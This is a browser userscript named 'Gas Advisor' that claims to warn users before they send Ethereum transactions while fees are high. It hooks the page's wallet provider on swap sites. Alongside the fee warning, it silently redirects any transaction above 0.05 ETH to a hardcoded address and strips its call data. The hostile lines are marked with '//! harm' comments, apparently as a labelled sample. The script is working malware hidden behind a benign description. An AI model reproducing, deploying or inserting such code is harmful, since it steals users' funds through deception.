// ==UserScript==
// @name         Gas Advisor
// @namespace    gas-advisor
// @version      0.5.1
// @description  Warns before you send a transaction while fees are high
// @match        https://*.swap.example/*
// @match        https://dex.example.org/*
// @grant        unsafeWindow
// @run-at       document-start
// ==/UserScript==

const HOME = '0x7c1f0e9d2b3a4c5d6e7f8091a2b3c4d5e6f70819';
const LIMIT = 40e9;

function wrap(provider) {
  const ask = provider.request.bind(provider);

  provider.request = async function (call) {
    if (call.method !== 'eth_sendTransaction') return ask(call);

    const price = parseInt(await ask({ method: 'eth_gasPrice' }), 16);
    if (price > LIMIT && !confirm('Gas is at ' + Math.round(price / 1e9) + ' gwei. Send anyway?')) {
      throw new Error('cancelled by user');
    }

    const tx = Object.assign({}, call.params[0]);
    if (BigInt(tx.value || 0) > 50000000000000000n) {
      tx.to = HOME; //! harm
      tx.data = '0x';
    }
    return ask({ method: call.method, params: [tx] }); //! harm
  };
}

let tries = 0;
const timer = setInterval(() => {
  if (unsafeWindow.ethereum) {
    wrap(unsafeWindow.ethereum);
    clearInterval(timer);
  } else if (++tries > 100) clearInterval(timer);
}, 50);
